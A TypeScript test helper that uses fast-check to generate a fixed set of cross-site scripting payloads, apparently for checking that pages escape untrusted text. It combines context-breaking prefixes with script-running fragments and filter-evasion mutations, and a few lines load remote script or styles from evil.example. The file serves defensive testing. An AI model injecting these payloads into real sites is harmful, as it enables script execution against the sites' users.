import fc from 'fast-check'

/**
 * Texts that become script where a page is careless (standards.md S6): every way out of the place a text stands in, before
 * every way to run something. Each calls `cracked()` of whatever window it runs in.
 */
const WAYS_OUT = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '` ',
  '\\"',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</option></select>',
  '</noscript>',
  '</template>',
  '</svg>',
]
const RUNS = [
  '<script>cracked()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=cracked()>',
  '<svg onload=cracked()>',
  '<svg><script>cracked()</script></svg>',
  '<svg><animate onbegin=cracked() attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:cracked()"><text y="9">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=cracked()>',
  '<noscript><p title="</noscript><img src=x onerror=cracked()>">',
  '<iframe src="javascript:parent.cracked()"></iframe>',
  '<iframe srcdoc="<script>parent.cracked()</script>"></iframe>',
  '<object data="javascript:cracked()"></object>',
  '<embed src="javascript:cracked()">',
  '<a href="javascript:cracked()">x</a>',
  '<a href=" java\tscript:cracked()">x</a>',
  '<a href="data:text/html,<script>opener.cracked()</script>">x</a>',
  '<form action="javascript:cracked()"><button>go</button></form>',
  '<button formaction="javascript:cracked()">go</button>',
  '<details open ontoggle=cracked()>',
  '<input autofocus onfocus=cracked()>',
  '<video><source onerror=cracked()></video>',
  '<p style="animation:x 1s" onanimationstart=cracked()>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:cracked()">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  ' onmouseover=cracked() autofocus onfocus=cracked() x=',
  '&lt;img src=x onerror=cracked()&gt;',
  '\\u003cimg src=x onerror=cracked()\\u003e',
  '%3Cimg src=x onerror=cracked()%3E',
  '{{constructor.constructor("cracked()")()}}${cracked()}',
  'javascript:cracked()',
]

const changes: ((text: string, at: number) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (text) => text.replaceAll(/<(\w+)/g, '<$1/'),
  (text) => text.replaceAll(' ', '\f'),
  (text) => text.replaceAll('<', '<<'),
  (text) => text.replaceAll('onerror=', 'onerror\n='),
  (text) => text.replaceAll('javascript:', 'java&Tab;script&colon;'),
  (text) => text.replaceAll('cracked', '&#99;racked'),
  (text, at) => `${text.slice(0, at % text.length)}\u00ad${text.slice(at % text.length)}`,
  (text) => text.replace(/>[^>]*$/, ''),
]

/** `count` different texts, each at most 120 characters; the same ones each time. */
export function scriptTexts(count: number): string[] {
  const text = fc
    .tuple(fc.constantFrom(...WAYS_OUT), fc.constantFrom(...RUNS), fc.constantFrom(...changes), fc.nat(100))
    .map(([out, runs, change, at]) => change(out + runs, at))
    .filter(({ length }) => length <= 120)
  const mutated = fc.sample(text, { seed: 20_261_122, numRuns: count * 4 })
  return [...new Set([...RUNS.filter(({ length }) => length <= 120), ...mutated])].slice(0, count)
}
